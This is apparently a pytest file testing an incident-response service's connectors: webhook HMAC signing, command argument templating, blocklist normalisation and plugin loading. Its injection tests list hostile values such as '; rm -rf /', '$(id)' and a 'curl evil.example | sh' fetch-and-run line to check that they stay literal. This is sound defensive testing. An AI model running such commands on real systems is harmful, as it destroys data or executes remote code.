"""The responder's connectors without I/O: what each call dispatches, what is refused, the signing rule."""

from __future__ import annotations

import hashlib
import hmac
import json
import re
import textwrap
import uuid
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, cast

import asyncpg
import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import SecretStr

from services.responder.connectors import (
    DEFAULT_CONNECTORS,
    CommandConnector,
    Connector,
    ConnectorError,
    ConnectorsConfig,
    ConnectorsConfigError,
    Dispatch,
    StepCall,
    Validating,
    answer_matches,
    fill_url,
    load_connectors,
    load_connectors_config,
    parse_connectors_config,
    webhook_secret,
)
from shared.effects.domain import sign, verify_signature

SECRET = b"a-webhook-secret-of-some-length"
NOW = 1_750_000_000


# ---- signing -----------------------------------------------------------------------------------


def test_a_signature_is_the_hmac_of_the_timestamp_a_dot_and_the_body() -> None:
    body = b'{"action":"isolate_host"}'
    expected = hmac.new(SECRET, b"1750000000." + body, hashlib.sha256).hexdigest()
    assert sign(SECRET, NOW, body) == f"sha256={expected}"


@given(body=st.binary(max_size=512), skew=st.integers(min_value=-300, max_value=300))
def test_a_signed_body_verifies_within_the_tolerance(body: bytes, skew: int) -> None:
    assert verify_signature(SECRET, str(NOW), sign(SECRET, NOW, body), body, now=NOW + skew)


@given(body=st.binary(min_size=1, max_size=256), position=st.integers(min_value=0), flip=st.integers(1, 255))
def test_a_tampered_body_does_not_verify(body: bytes, position: int, flip: int) -> None:
    signature = sign(SECRET, NOW, body)
    tampered = bytearray(body)
    tampered[position % len(body)] ^= flip
    assert not verify_signature(SECRET, str(NOW), signature, bytes(tampered), now=NOW)


def test_a_wrong_secret_a_moved_timestamp_or_a_missing_header_does_not_verify() -> None:
    body = b"{}"
    signature = sign(SECRET, NOW, body)
    assert verify_signature(SECRET, str(NOW), signature, body, now=NOW)
    assert not verify_signature(b"another-secret-entirely-123", str(NOW), signature, body, now=NOW)
    # The timestamp is signed: the same signature under another time is refused.
    assert not verify_signature(SECRET, str(NOW + 1), signature, body, now=NOW)
    assert not verify_signature(SECRET, None, signature, body, now=NOW)
    assert not verify_signature(SECRET, str(NOW), None, body, now=NOW)
    assert not verify_signature(SECRET, str(NOW), signature.removeprefix("sha256="), body, now=NOW)
    assert not verify_signature(SECRET, str(NOW), "sha256=", body, now=NOW)


def test_stale_and_future_timestamps_are_refused() -> None:
    body = b'{"key":"step-1"}'
    signature = sign(SECRET, NOW, body)
    assert not verify_signature(SECRET, str(NOW), signature, body, now=NOW + 301)  # replayed later
    assert not verify_signature(SECRET, str(NOW), signature, body, now=NOW - 301)  # from the future
    assert verify_signature(SECRET, str(NOW), signature, body, now=NOW + 30, tolerance_s=30)
    assert not verify_signature(SECRET, str(NOW), signature, body, now=NOW + 31, tolerance_s=30)


def test_a_timestamp_must_be_written_as_a_sender_writes_it() -> None:
    body = b"{}"
    signature = sign(SECRET, NOW, body)
    for written in (f" {NOW}", f"{NOW}\n", f"+{NOW}", f"0{NOW}", f"{NOW}.0", "1e9", "", "9" * 40):
        assert not verify_signature(SECRET, written, signature, body, now=NOW), written


def test_an_upper_case_signature_still_verifies() -> None:
    body = b"{}"
    signature = sign(SECRET, NOW, body)
    assert verify_signature(SECRET, str(NOW), signature.upper(), body, now=NOW)


# ---- helpers -------------------------------------------------------------------------------------

# Dispatching never touches the database: the blocklist connector keeps its pool for its effect kind only.
UNUSED_POOL = cast(asyncpg.Pool, object())
WEBHOOK_SECRET = "s3cret-for-signing-webhooks"
LATER = datetime(2030, 1, 2, 3, 4, 5, tzinfo=UTC)


def call(action: str, params: Mapping[str, str | int] | None = None, **overrides: Any) -> StepCall:
    fields: dict[str, Any] = {
        "key": "inc-1:isolate-host#0",
        "incident_id": "inc-1",
        "step_id": "isolate-host#0",
        "action": action,
        "params": dict(params or {}),
        "reason": "incident inc-1: Isolate the host from the network",
        "expires_at": None,
        **overrides,
    }
    return StepCall(**fields)


def config(document: str) -> ConnectorsConfig:
    return parse_connectors_config(textwrap.dedent(document), source="connectors.yaml")


def connectors(document: str, environ: Mapping[str, str] | None = None) -> dict[str, Connector]:
    environ = {"HOOK_SECRET": WEBHOOK_SECRET} if environ is None else environ
    return load_connectors(config(document), pool=UNUSED_POOL, environ=environ)


def problems(document: str) -> list[str]:
    with pytest.raises(ConnectorsConfigError) as caught:
        config(document)
    return caught.value.problems


WEBHOOKS = """
    webhook:
      url: https://soar.example.com/hooks/vigil
      actions:
        isolate_host: {url: "http://edr.example.com:8443/isolate?tenant=blue"}
      secret_env: HOOK_SECRET
"""

COMMANDS = """
    command:
      actions:
        isolate_host:
          argv: ["/opt/edr/isolate", "--host", "{host}", "--note={reason} ({host})", "--request", "{idempotency_key}"]
          env: [EDR_TOKEN]
          cwd: /var/lib/edr
          permanent_exit_codes: [2, 3]
        literal:
          argv: ["/opt/edr/echo", "{{host}}", "{{{host}}}"]
"""


# ---- the shipped file --------------------------------------------------------------------------


def test_the_shipped_file_sends_nothing_out() -> None:
    shipped = load_connectors_config(DEFAULT_CONNECTORS)
    assert shipped.webhook.urls == set()
    assert shipped.command.actions == {}
    assert shipped.plugins == {}
    loaded = load_connectors(shipped, pool=UNUSED_POOL, environ={})
    assert sorted(loaded) == ["blocklist", "command", "webhook"]
    with pytest.raises(ConnectorError, match="webhook: no URL configured for action isolate_host"):
        loaded["webhook"].dispatch(call("isolate_host", {"host": "web-01"}))
    with pytest.raises(ConnectorError, match="command: no program configured for action isolate_host"):
        loaded["command"].dispatch(call("isolate_host", {"host": "web-01"}))
    assert loaded["blocklist"].dispatch(call("block", {"address": "203.0.113.7"})).target == "blocklist"


def test_every_built_in_runs_its_dispatches_and_its_checks_with_kinds_of_its_own_name() -> None:
    loaded = connectors(WEBHOOKS + COMMANDS)
    check = {"webhook": "validate", "command": "verify", "blocklist": "validate"}
    for name in ("webhook", "command", "blocklist"):
        assert isinstance(loaded[name], Connector) and isinstance(loaded[name], Validating)
        assert [kind.name for kind in loaded[name].effect_kinds(None)] == [
            f"connector.{name}",
            f"connector.{name}.{check[name]}",
        ]


def test_a_check_is_built_from_the_configuration_and_says_none_when_nothing_is_configured() -> None:
    configured = parse_connectors_config(
        json.dumps(
            {
                "webhook": {
                    "secret_env": "S",
                    "actions": {
                        "isolate_host": {"url": "https://edr.example.com/i", "expect": {"ok": True}},
                        "release_host": {
                            "url": "https://edr.example.com/r",
                            "check": {"url": "https://edr.example.com/rules/{host}?q=1", "expect": "released"},
                        },
                        "plain": {"url": "https://edr.example.com/p"},
                    },
                },
                "command": {
                    "actions": {"mark": {"argv": ["/bin/true"], "verify": ["/usr/bin/test", "-e", "/m/{host}"]}}
                },
            }
        )
    )
    loaded = load_connectors(configured, pool=UNUSED_POOL, environ={"S": "s" * 16})
    webhook, command = loaded["webhook"], loaded["command"]
    assert isinstance(webhook, Validating) and isinstance(command, Validating)
    assert webhook.validation(call("plain", {"host": "a"}), {}) is None
    isolate = webhook.validation(call("isolate_host", {"host": "a"}), {"body": '{"ok": true}'})
    assert isolate is not None and isolate.kind == "connector.webhook.validate"
    assert isolate.payload == {"action": "isolate_host", "params": {"host": "a"}, "answer": '{"ok": true}'}
    with pytest.raises(ConnectorError, match="the check URL needs the parameter host"):
        webhook.validation(call("release_host", {}), {})
    verify = command.validation(call("mark", {"host": "web 1"}), {})
    assert verify is not None and verify.payload["argv"] == ["/usr/bin/test", "-e", "/m/web 1"]
    assert fill_url("https://x.example/rules/{host}?q=1", {"host": "a/b c"}) == "https://x.example/rules/a%2Fb%20c?q=1"
    assert answer_matches('{"ok": true, "n": 1}', {"ok": True}) and not answer_matches('{"ok": 1}', {"ok": "1"})
    assert answer_matches("rule released", "released") and not answer_matches("not json", {"ok": True})
    with pytest.raises(ConnectorsConfigError, match="never in the host"):
        parse_connectors_config(
            json.dumps(
                {
                    "webhook": {
                        "secret_env": "S",
                        "actions": {"a": {"url": "https://e.x/a", "check": {"url": "https://{host}/r"}}},
                    }
                }
            )
        )


# ---- webhook -----------------------------------------------------------------------------------


def test_a_webhook_call_posts_the_step_as_json_to_the_actions_url_or_the_default() -> None:
    webhook = connectors(WEBHOOKS)["webhook"]
    isolate = webhook.dispatch(call("isolate_host", {"host": "web-01", "minutes": 30}, expires_at=LATER))
    assert isolate == Dispatch(
        kind="connector.webhook",
        target="edr.example.com:8443",
        payload={
            "method": "POST",
            "url": "http://edr.example.com:8443/isolate?tenant=blue",
            "headers": {},
            "body": {
                "key": "inc-1:isolate-host#0",
                "incident_id": "inc-1",
                "step_id": "isolate-host#0",
                "action": "isolate_host",
                "params": {"host": "web-01", "minutes": 30},
                "reason": "incident inc-1: Isolate the host from the network",
                "expires_at": "2030-01-02T03:04:05+00:00",
            },
        },
    )
    reset = webhook.dispatch(call("reset_credentials", {"user": "alice"}, key="inc-1:reset#0:undo"))
    assert (reset.target, reset.payload["url"]) == ("soar.example.com", "https://soar.example.com/hooks/vigil")
    assert reset.payload["body"]["key"] == "inc-1:reset#0:undo"
    assert reset.payload["body"]["expires_at"] is None
    # The secret signs requests as they go; it is in no payload.
    assert WEBHOOK_SECRET not in json.dumps([isolate.payload, reset.payload])


def test_a_webhook_action_without_a_url_is_refused() -> None:
    only_isolate = """
        webhook:
          actions: {isolate_host: {url: "https://edr.example.com/isolate"}}
          secret_env: HOOK_SECRET
    """
    with pytest.raises(ConnectorError, match=r"^webhook: no URL configured for action release_host$"):
        connectors(only_isolate)["webhook"].dispatch(call("release_host", {"host": "web-01"}))


def test_a_webhook_url_needs_a_signing_secret_from_the_environment() -> None:
    assert any("needs secret_env" in p for p in problems("webhook: {url: 'https://soar.example.com/x'}"))
    with pytest.raises(ConnectorsConfigError, match="HOOK_SECRET is not set"):
        connectors(WEBHOOKS, environ={})
    with pytest.raises(ConnectorsConfigError, match="fewer than 16 characters"):
        connectors(WEBHOOKS, environ={"HOOK_SECRET": "short"})
    assert webhook_secret(config(WEBHOOKS).webhook, {"HOOK_SECRET": WEBHOOK_SECRET}) == SecretStr(WEBHOOK_SECRET)
    # Without a URL nothing is sent, so no secret is needed.
    assert webhook_secret(config("webhook: {secret_env: HOOK_SECRET}").webhook, {}) is None


def test_a_webhook_url_with_credentials_or_another_scheme_is_refused() -> None:
    assert any(
        p.startswith("connectors.yaml:2:") and "no credentials" in p
        for p in problems("webhook:\n  url: https://user:pw@soar.example.com/x\n  secret_env: HOOK_SECRET\n")
    )
    assert any("not an http(s) URL" in p for p in problems("webhook: {url: 'ftp://files.example.com/'}"))


# ---- command -----------------------------------------------------------------------------------


def test_a_command_call_fills_the_configured_arguments_once() -> None:
    command = connectors(COMMANDS)["command"]
    dispatch = command.dispatch(call("isolate_host", {"host": "web-01", "reason": "worm", "unused": 7}))
    assert dispatch == Dispatch(
        kind="connector.command",
        target="/opt/edr/isolate",
        payload={
            "argv": [
                "/opt/edr/isolate",
                "--host",
                "web-01",
                "--note=worm (web-01)",
                "--request",
                "inc-1:isolate-host#0",
            ],
            "permanent_exit_codes": [2, 3],
            "env_pass": ["EDR_TOKEN"],  # the name only: the value is read when the program runs
            "cwd": "/var/lib/edr",
            "substitute_key": False,
        },
    )
    literal = command.dispatch(call("literal", {"host": "web-01"}))
    assert literal.payload["argv"] == ["/opt/edr/echo", "{host}", "{web-01}"]


def test_a_numeric_parameter_becomes_its_decimal_text() -> None:
    command = connectors("command: {actions: {wait: {argv: [/bin/sleep, '{seconds}']}}}")["command"]
    assert command.dispatch(call("wait", {"seconds": 30})).payload["argv"] == ["/bin/sleep", "30"]


@pytest.mark.parametrize(
    "hostile",
    [
        "; rm -rf /",
        "$(id)",
        "`id`",
        "web-01 && curl evil.example | sh",
        "{reason}",
        "{idempotency_key}",
        "{0}",
        "}{",
        "a b\tc\nd",
        "'\"\\",
        "*",
        "~root",
    ],
)
def test_a_hostile_value_stays_one_literal_argument(hostile: str) -> None:
    command = connectors(COMMANDS)["command"]
    argv = command.dispatch(call("isolate_host", {"host": hostile, "reason": "worm"})).payload["argv"]
    assert argv[:3] == ["/opt/edr/isolate", "--host", hostile]
    assert argv[3] == f"--note=worm ({hostile})"
    assert argv[5] == "inc-1:isolate-host#0"


@given(value=st.text(max_size=64).filter(lambda v: not v.startswith("-") and "\x00" not in v))
def test_any_value_is_inserted_as_it_is(value: str) -> None:
    command = CommandConnector(config(COMMANDS).command, environ={})
    argv = command.dispatch(call("isolate_host", {"host": value, "reason": value})).payload["argv"]
    assert argv[2] == value
    assert argv[3] == f"--note={value} ({value})"


@pytest.mark.parametrize("value", ["-rf", "--host=evil", "-", "-1"])
def test_a_value_that_could_pass_for_an_option_is_refused(value: str) -> None:
    command = connectors(COMMANDS)["command"]
    with pytest.raises(ConnectorError, match="parameter host starts with '-'"):
        command.dispatch(call("isolate_host", {"host": value, "reason": "worm"}))
    with pytest.raises(ConnectorError, match="parameter reason starts with '-'"):
        command.dispatch(call("isolate_host", {"host": "web-01", "reason": value}))


def test_a_negative_number_is_refused_as_an_option_too() -> None:
    command = connectors("command: {actions: {wait: {argv: [/bin/sleep, '{seconds}']}}}")["command"]
    with pytest.raises(ConnectorError, match="starts with '-'"):
        command.dispatch(call("wait", {"seconds": -5}))


def test_a_missing_parameter_a_nul_or_an_unconfigured_action_is_refused() -> None:
    command = connectors(COMMANDS)["command"]
    with pytest.raises(ConnectorError, match=r"^command: action isolate_host needs the parameter reason$"):
        command.dispatch(call("isolate_host", {"host": "web-01"}))
    with pytest.raises(ConnectorError, match="NUL"):
        command.dispatch(call("isolate_host", {"host": "web\x00-01", "reason": "worm"}))
    with pytest.raises(ConnectorError, match=r"^command: no program configured for action reimage_host$"):
        command.dispatch(call("reimage_host", {"host": "web-01"}))


def test_the_command_kind_runs_only_the_configured_programs() -> None:
    command = CommandConnector(config(COMMANDS).command, environ={})
    assert {p.config.argv[0] for p in command.programs.values()} == {"/opt/edr/isolate", "/opt/edr/echo"}


@pytest.mark.parametrize(
    ("argv", "reason"),
    [
        ('["isolate", "{host}"]', "must be an absolute path"),
        ('["/opt/{tool}/run"]', "without placeholders"),
        ('["/opt/edr/isolate", "{0}"]', "a placeholder is a parameter's name in braces"),
        ('["/opt/edr/isolate", "{host.name}"]', "a placeholder is a parameter's name in braces"),
        ('["/opt/edr/isolate", "{host!r}"]', "a placeholder is a parameter's name in braces"),
        ('["/opt/edr/isolate", "{host:>9}"]', "a placeholder is a parameter's name in braces"),
        ('["/opt/edr/isolate", "{}"]', "a placeholder is a parameter's name in braces"),
        ('["/opt/edr/isolate", "{host"]', "expected '}'"),
        ('["/opt/edr/isolate", "host}"]', "Single '}'"),
        ("[]", "at least 1 item"),
    ],
)
def test_a_command_whose_arguments_do_not_parse_is_refused_at_load(argv: str, reason: str) -> None:
    found = problems(f"command:\n  actions:\n    isolate_host:\n      argv: {argv}\n")
    assert any(p.startswith("connectors.yaml:4:") and "command.actions.isolate_host.argv" in p for p in found), found
    assert any(reason in p for p in found), found


def test_a_command_with_a_relative_directory_or_a_bad_variable_name_is_refused_at_load() -> None:
    assert any(
        "must be an absolute path" in p
        for p in problems("command: {actions: {x: {argv: [/bin/true], cwd: 'var/lib'}}}")
    )
    assert any(
        "command.actions.x.env.0" in p for p in problems("command: {actions: {x: {argv: [/bin/true], env: ['A=B']}}}")
    )


# ---- blocklist ---------------------------------------------------------------------------------


def test_a_block_lists_the_normalised_value_with_the_steps_lease() -> None:
    blocklist = connectors("")["blocklist"]
    dispatch = blocklist.dispatch(
        call("block", {"address": "203.0.113.77/24", "reason": "scanner"}, step_id="block-ip#0", expires_at=LATER)
    )
    assert dispatch == Dispatch(
        kind="connector.blocklist",
        target="blocklist",
        payload={
            "op": "add",
            "kind": "ip",
            "value": "203.0.113.0/24",
            "incident_id": "inc-1",
            "step_id": "block-ip#0",
            "reason": "scanner",
            "expires_at": "2030-01-02T03:04:05Z",
        },
    )
    others = {
        "ip": ("2001:DB8::1", "ip", "2001:db8::1"),
        "domain": ("Evil.Example.", "domain", "evil.example"),
        "url": ("https://Evil.Example/drop?x=1", "url", "evil.example/drop?x=1"),
        "sha256": ("AB" * 32, "sha256", "ab" * 32),
    }
    for param, (value, kind, normalised) in others.items():
        payload = blocklist.dispatch(call("block", {param: value})).payload
        assert (payload["kind"], payload["value"]) == (kind, normalised)
        assert payload["reason"] == "incident inc-1: Isolate the host from the network"  # the call's, by default


def test_an_unblock_removes_the_steps_entry() -> None:
    blocklist = connectors("")["blocklist"]
    dispatch = blocklist.dispatch(
        call("unblock", {"address": "203.0.113.7"}, key="block-ip#0:undo", step_id="block-ip#0", expires_at=LATER)
    )
    assert dispatch.payload == {
        "op": "remove",
        "kind": "ip",
        "value": "203.0.113.7",
        "incident_id": "inc-1",
        "step_id": "block-ip#0",
        "reason": "",
        "expires_at": None,
    }


@pytest.mark.parametrize(
    ("action", "params", "reason"),
    [
        ("quarantine", {"address": "203.0.113.7"}, "no action quarantine"),
        ("block", {}, "exactly one of address, ip, domain, url, sha256; got 0"),
        ("block", {"address": "203.0.113.7", "domain": "evil.example"}, "exactly one of"),
        ("block", {"address": "203.0.113.7", "port": 22}, "unknown parameter(s) port"),
        ("block", {"address": "not-an-address"}, "not an IP address"),
        ("block", {"domain": "localhost"}, "at least two labels"),
        ("block", {"url": "ftp://evil.example/x"}, "only http and https"),
        ("block", {"sha256": "abc"}, "not a SHA-256"),
        ("block", {"address": 7}, "are text"),
        ("unblock", {"address": "; rm -rf /"}, "not an IP address"),
    ],
)
def test_a_blocklist_call_that_does_not_fit_is_refused(action: str, params: dict[str, str | int], reason: str) -> None:
    with pytest.raises(ConnectorError, match=re.escape(reason)):
        connectors("")["blocklist"].dispatch(call(action, params))


# ---- the file ----------------------------------------------------------------------------------


def test_an_empty_file_means_the_defaults() -> None:
    assert config("") == ConnectorsConfig()
    assert config("# only comments\n") == ConnectorsConfig()


def test_config_errors_name_the_file_the_line_and_the_reason(tmp_path: Path) -> None:
    assert problems("webhook:\n  url: [unclosed\n")[0].startswith("connectors.yaml:3:")
    assert problems("webhook:\n  secret: x\n") == [
        "connectors.yaml:2:11: webhook.secret: Extra inputs are not permitted"
    ]
    assert problems("- a list\n")[0].startswith("connectors.yaml:1:1: (file): ")
    with pytest.raises(ConnectorsConfigError, match=r"missing\.yaml: cannot be read"):
        load_connectors_config(tmp_path / "missing.yaml")
    broken = tmp_path / "broken.yaml"
    broken.write_text("command:\n  actions:\n    x: {argv: [run]}\n")
    with pytest.raises(ConnectorsConfigError, match=re.escape(f"{broken}:3:15: command.actions.x.argv")):
        load_connectors_config(broken)


def test_a_plugin_cannot_take_a_built_in_name() -> None:
    for name in ("webhook", "command", "blocklist", "notify"):
        assert any(f"{name}: built-in connector names" in p for p in problems(f"plugins: {{{name}: {{}}}}"))
    assert any("plugins" in p for p in problems("plugins: {'Bad Name': {}}"))


# ---- plugins, from real entry points -----------------------------------------------------------

PLUGIN_MODULE = """
from services.responder.connectors import Dispatch
from shared.effects import EffectKind


class Ticketing:
    name = "ticketing"

    def __init__(self, options, pool):
        self.options = options
        self.pool = pool

    def dispatch(self, call):
        return Dispatch(kind="connector.ticketing", target=self.options["project"], payload={"summary": call.reason})

    def effect_kinds(self, on_outcome):
        async def execute(effect):
            return {}

        return [EffectKind(name=getattr(self, "kind_name", "connector.ticketing"), execute=execute)]


def make(options, pool):
    return Ticketing(options, pool)


def misnamed(options, pool):
    connector = Ticketing(options, pool)
    connector.name = "tickets"
    return connector


def stray(options, pool):
    connector = Ticketing(options, pool)
    connector.name = "stray"
    connector.kind_name = "http_request"
    return connector


def broken(options, pool):
    raise RuntimeError("no project given")


def not_a_connector(options, pool):
    return object()
"""


@pytest.fixture
def plugins(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """An installed distribution (a dist-info on sys.path) with vigil.connectors entry points; its module name."""
    module = f"vigil_test_plugin_{uuid.uuid4().hex[:8]}"
    (tmp_path / f"{module}.py").write_text(PLUGIN_MODULE)
    info = tmp_path / f"{module}-1.0.dist-info"
    info.mkdir()
    (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {module}\nVersion: 1.0\n")
    points = {"ticketing": "make", "misnamed": "misnamed", "stray": "stray", "broken": "broken"}
    points["not-a-connector"] = "not_a_connector"
    lines = [f"{name} = {module}:{factory}" for name, factory in points.items()]
    (info / "entry_points.txt").write_text("\n".join(["[vigil.connectors]", *lines, ""]))
    monkeypatch.syspath_prepend(str(tmp_path))
    return module


def test_a_configured_plugin_is_loaded_with_its_options_and_the_pool(plugins: str) -> None:
    loaded = connectors("plugins:\n  ticketing: {project: SEC}\n")
    ticketing = loaded["ticketing"]
    assert sorted(loaded) == ["blocklist", "command", "ticketing", "webhook"]
    assert type(ticketing).__module__ == plugins
    assert ticketing.pool is UNUSED_POOL  # type: ignore[attr-defined]
    assert ticketing.dispatch(call("open_ticket")) == Dispatch(
        kind="connector.ticketing", target="SEC", payload={"summary": call("x").reason}
    )


def test_an_installed_plugin_that_is_not_configured_is_not_loaded(plugins: str) -> None:
    assert "ticketing" not in connectors("")


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("absent", "plugins.absent: no connector of that name is installed (vigil.connectors)"),
        ("broken", "failed: RuntimeError: no project given"),
        ("misnamed", "returned a connector named 'tickets'"),
        ("stray", "effect kinds http_request must be named connector.stray"),
        ("not-a-connector", "did not return a connector"),
    ],
)
def test_a_plugin_that_cannot_be_used_stops_the_load(plugins: str, name: str, reason: str) -> None:
    with pytest.raises(ConnectorsConfigError, match=re.escape(reason)):
        connectors(f"plugins:\n  {name}: {{project: SEC}}\n")
